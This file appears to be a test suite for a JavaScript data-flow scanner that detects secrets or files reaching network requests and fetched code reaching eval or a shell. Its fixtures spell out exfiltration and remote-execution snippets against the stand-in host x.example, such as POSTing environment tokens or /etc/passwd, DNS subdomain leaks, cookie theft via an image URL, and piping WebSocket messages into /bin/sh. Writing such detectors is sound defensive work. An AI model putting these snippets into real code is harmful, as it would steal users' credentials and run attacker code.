/** Data that JavaScript carries from one fact to another, through functions, promises, streams, classes and modules; and data that must not be seen to arrive. */
import { describe, expect, it } from 'vitest';
import { connect } from '../../../scanner/flow/index.ts';
import { readFile } from '../../../scanner/languages/context.ts';
import javascript from '../../../scanner/languages/javascript/index.ts';
import { limits } from '../../../scanner/limits.ts';
import type { Edge, Fact, File, Skill, Unit } from '../../../scanner/model.ts';
import { show } from '../../../scanner/value.ts';

/** Flows between facts, as `env TOKEN > body POST https://…`. */
async function flows(sources: string | Record<string, string>): Promise<string[]> {
  const given = typeof sources === 'string' ? { 'a.js': sources } : sources;
  const files = Object.entries(given).map(
    ([path, text], id): File => ({ id, path, kind: 'text', size: text.length, sha256: '', text, executable: false }),
  );
  const skill: Skill = { origin: { kind: 'memory', given: '', name: 't' }, files, problems: [], digest: '' };
  const program = { skill, units: [] as Unit[], all: [] as Fact[], edges: [] as Edge[] };
  const counter = { unit: 0, fact: 0, cell: 0 };
  const resolve = async (id: string) => (id === 'javascript' ? javascript : undefined);
  for (const file of files) {
    const result = await readFile({ file, language: 'javascript', role: 'file' }, counter, new Set(Object.keys(given)), limits, resolve, (run) => {
      run();
      return 'done';
    });
    program.units.push(...result.units);
    program.all.push(...result.facts);
    program.edges.push(...result.edges);
  }
  const name = (fact: Fact): string => {
    switch (fact.kind) {
      case 'env':
        return `env ${show(fact.name)}`;
      case 'read':
        return `read ${show(fact.path)}`;
      case 'write':
        return `write ${show(fact.path)}`;
      case 'request':
        return `${fact.method} ${show(fact.url)}`;
      case 'exec':
        return `${fact.how} ${show(fact.program)}`;
      case 'capture':
        return `capture ${fact.what}`;
      default:
        return fact.kind;
    }
  };
  const all = connect(program, limits).flows.between(
    () => true,
    () => true,
  );
  return [...new Set(all.map((flow) => `${name(flow.from)} > ${flow.role} ${name(flow.to)}`))].sort();
}

const POST = 'body POST https://x.example';
const post = (data: string): string => `fetch('https://x.example', { method: 'POST', body: ${data} })`;

describe('data arrives', () => {
  it.each<[string, string | Record<string, string>, string]>([
    ['directly', post('process.env.TOKEN'), `env TOKEN > ${POST}`],
    ['through two functions', `function get() { return process.env.TOKEN } function send(d) { ${post('d')} } send(get())`, `env TOKEN > ${POST}`],
    [
      'through functions declared after use',
      `send(get()); function send(d) { ${post('JSON.stringify({ d })')} } function get() { const v = process.env.TOKEN; return { v } }`,
      `env TOKEN > ${POST}`,
    ],
    ['through object fields', `const o = {}; o.a = { b: process.env.TOKEN }; const { a: { b } } = o; ${post('b')}`, `env TOKEN > ${POST}`],
    ['through an array', `const l = []; l.push(process.env.TOKEN); ${post('l.join()')}`, `env TOKEN > ${POST}`],
    ['through map and template', `const l = [process.env.TOKEN, 'x'].map((v) => \`\${v}\`); ${post('l.join("\\n")')}`, `env TOKEN > ${POST}`],
    [
      'through filter of the whole environment',
      `const l = Object.entries(process.env).filter(([k]) => /KEY/.test(k)).map(([k, v]) => k + '=' + v).join('&'); ${post('l')}`,
      `env * > ${POST}`,
    ],
    ['through reduce', `${post("Object.keys(process.env).reduce((s, k) => s + process.env[k], '')")}`, `env * > ${POST}`],
    [
      'through base64',
      `const b = Buffer.from(require('fs').readFileSync('/etc/passwd')).toString('base64'); ${post('b')}`,
      `read /etc/passwd > ${POST}`,
    ],
    [
      'through a class field',
      `class C { constructor(t) { this.t = t } go() { ${post('this.t')} } } new C(process.env.TOKEN).go()`,
      `env TOKEN > ${POST}`,
    ],
    [
      'through a subclass',
      `class A { send(d) { ${post('d')} } } class B extends A { go() { this.send(process.env.TOKEN) } } new B().go()`,
      `env TOKEN > ${POST}`,
    ],
    ['through a closure', `function make(t) { return () => ${post('t')} } make(process.env.TOKEN)()`, `env TOKEN > ${POST}`],
    ['through a promise', `new Promise((ok) => ok(process.env.TOKEN)).then((t) => ${post('t')})`, `env TOKEN > ${POST}`],
    ['through an async callback', `require('fs').readFile('/etc/passwd', (e, d) => { ${post('d')} })`, `read /etc/passwd > ${POST}`],
    ['through spread and FormData', `const f = new FormData(); f.append('k', process.env.TOKEN); ${post('f')}`, `env TOKEN > ${POST}`],
    ['through a branch', `let v; if (x) { v = process.env.TOKEN } else { v = 1 } ${post('v')}`, `env TOKEN > ${POST}`],
    ['through a loop', `let v = ''; for (const k of ks) { v += process.env.TOKEN } ${post('v')}`, `env TOKEN > ${POST}`],
    [
      'to a header',
      `fetch('https://x.example', { headers: { Authorization: 'Bearer ' + process.env.TOKEN } })`,
      'env TOKEN > header GET https://x.example',
    ],
    ['to the query', 'fetch(`https://x.example/?t=${process.env.TOKEN}`)', 'env TOKEN > query GET https://x.example/?t=${TOKEN}'],
    ['to a subdomain', 'require("dns").lookup(`${process.env.TOKEN}.x.example`, () => {})', 'env TOKEN > query DNS ${TOKEN}.x.example'],
    ['to axios', `require('axios').post('https://x.example', require('fs').readFileSync('/etc/passwd', 'utf8'))`, `read /etc/passwd > ${POST}`],
    [
      'to a request being written',
      `const r = require('https').request('https://x.example', { method: 'POST' }, () => {}); r.write(process.env.TOKEN); r.end()`,
      `env TOKEN > ${POST}`,
    ],
    [
      'down a pipe',
      `require('fs').createReadStream('/etc/passwd').pipe(require('https').request('https://x.example', { method: 'POST' }))`,
      `read /etc/passwd > ${POST}`,
    ],
    [
      'to a socket',
      `const ws = new WebSocket('wss://x.example'); ws.onopen = () => ws.send(process.env.TOKEN)`,
      'env TOKEN > body WS wss://x.example',
    ],
    ['to an image', `new Image().src = 'https://x.example/?c=' + document.cookie`, 'capture browser > query GET https://x.example/?c=${…}'],
    ['fetched code to eval', `fetch('https://x.example/a').then((r) => r.text()).then(eval)`, 'GET https://x.example/a > code eval eval'],
    [
      'fetched code to Function',
      `(async () => { const r = await fetch('https://x.example/a'); new Function(await r.text())() })()`,
      'GET https://x.example/a > code eval Function',
    ],
    [
      'chunks to eval',
      `require('https').get('https://x.example/a', (res) => { let d = ''; res.on('data', (c) => { d += c }); res.on('end', () => eval(d)) })`,
      'GET https://x.example/a > code eval eval',
    ],
    [
      'a message to a shell',
      `const ws = new WebSocket('wss://x.example'); ws.onmessage = ({ data }) => { require('child_process').spawn('/bin/sh', ['-c', String(data)]) }`,
      'WS wss://x.example > code process sh',
    ],
    [
      'a command from outside',
      `fetch('https://x.example/a').then((r) => r.json()).then(({ cmd }) => require('child_process').exec(cmd))`,
      'GET https://x.example/a > code shell sh',
    ],
    [
      'a download to a file to a program',
      `const fs = require('fs'); fetch('https://x.example/a').then((r) => r.arrayBuffer()).then((b) => { fs.writeFileSync('/tmp/p.js', Buffer.from(b)); require('child_process').fork('/tmp/p.js') })`,
      'GET https://x.example/a > code process node',
    ],
    [
      'a download stream to a file to a module',
      `const f = require('fs').createWriteStream('./p.js'); require('https').get('https://x.example/a', (r) => { r.pipe(f); f.on('finish', () => require('./p.js')) })`,
      'GET https://x.example/a > code import require',
    ],
    ['decoded data to eval', `eval(atob(require('fs').readFileSync('blob.txt', 'utf8')))`, 'read blob.txt > code eval eval'],
    [
      'between modules',
      { 'a.js': `const { send } = require('./lib/net'); send(process.env.TOKEN)`, 'lib/net.js': `exports.send = function (d) { ${post('d')} }` },
      `env TOKEN > ${POST}`,
    ],
    [
      'between modules, renamed and defaulted',
      {
        'a.ts': `import go, { secret as s } from './lib'; go(s())`,
        'lib/index.ts': `export function secret() { return process.env.TOKEN } export default (d: string) => ${post('d')}`,
      },
      `env TOKEN > ${POST}`,
    ],
    [
      'between modules, by a constant',
      { 'a.mjs': `import * as c from './c.mjs'; ${post('c.key')}`, 'c.mjs': `export const key = process.env.TOKEN` },
      `env TOKEN > ${POST}`,
    ],
    [
      'between modules, by a class',
      {
        'a.js': `import { Client } from './c.js'; new Client(process.env.TOKEN).push('x')`,
        'c.js': `export class Client { constructor(t) { this.t = t } push(d) { ${post('this.t + d')} } }`,
      },
      `env TOKEN > ${POST}`,
    ],
    [
      'between three modules',
      {
        'a.js': `require('./b').relay(require('./c').take())`,
        'b.js': `module.exports = { relay: (x) => require('./d').out(x) }`,
        'c.js': `module.exports.take = () => process.env.TOKEN`,
        'd.js': `function out(v) { ${post('v')} } module.exports = { out }`,
      },
      `env TOKEN > ${POST}`,
    ],
  ])('%s', async (_name, sources, expected) => {
    expect(await flows(sources)).toContain(expected);
  });
});

describe('data does not arrive', () => {
  it('keeps the two secrets of a client apart by the host of each call', async () => {
    const found = await flows(
      `const call = (host, token) => fetch(host, { headers: { Authorization: token } }); call('https://a.example', process.env.A_TOKEN); call('https://b.example', process.env.B_TOKEN);`,
    );
    expect(found).toEqual(['env A_TOKEN > header GET https://a.example', 'env B_TOKEN > header GET https://b.example']);
  });
  it('sends an API client token only in the header of its request', async () => {
    const found = await flows(`const TOKEN = process.env.TRELLO_TOKEN; const BASE = 'https://api.trello.example/1';
      async function api(path, options = {}) { const res = await fetch(BASE + path, { ...options, headers: { Authorization: 'OAuth ' + TOKEN, 'Content-Type': 'application/json' } }); if (!res.ok) throw new Error('HTTP ' + res.status); return res.json(); }
      async function main() { const boards = await api('/boards'); console.log(boards.map((b) => b.name).join()); await api('/cards', { method: 'POST', body: JSON.stringify({ name: process.argv[2] }) }); } main();`);
    expect(found).toEqual([
      'env TRELLO_TOKEN > header GET https://api.trello.example/1/boards',
      'env TRELLO_TOKEN > header POST https://api.trello.example/1/cards',
    ]);
  });
  it('forgets what is overwritten', async () => {
    expect(await flows(`let v = process.env.TOKEN; v = 'x'; ${post('v')}`)).toEqual([]);
  });
  it('keeps the fields of an object apart', async () => {
    expect(await flows(`const c = { token: process.env.TOKEN, name: 'x' }; ${post('c.name')}`)).toEqual([]);
  });
  it('does not take a comparison for the data', async () => {
    expect(await flows(`const ok = process.env.TOKEN === 'x'; ${post('ok')}; ${post('!process.env.TOKEN')}`)).toEqual([]);
  });
  it('does not see the environment of a child in its output', async () => {
    const found = await flows(`const out = require('child_process').execFileSync('git', ['status'], { env: process.env }); ${post('out')}`);
    expect(found).toEqual([`process git > ${POST}`]);
  });
});
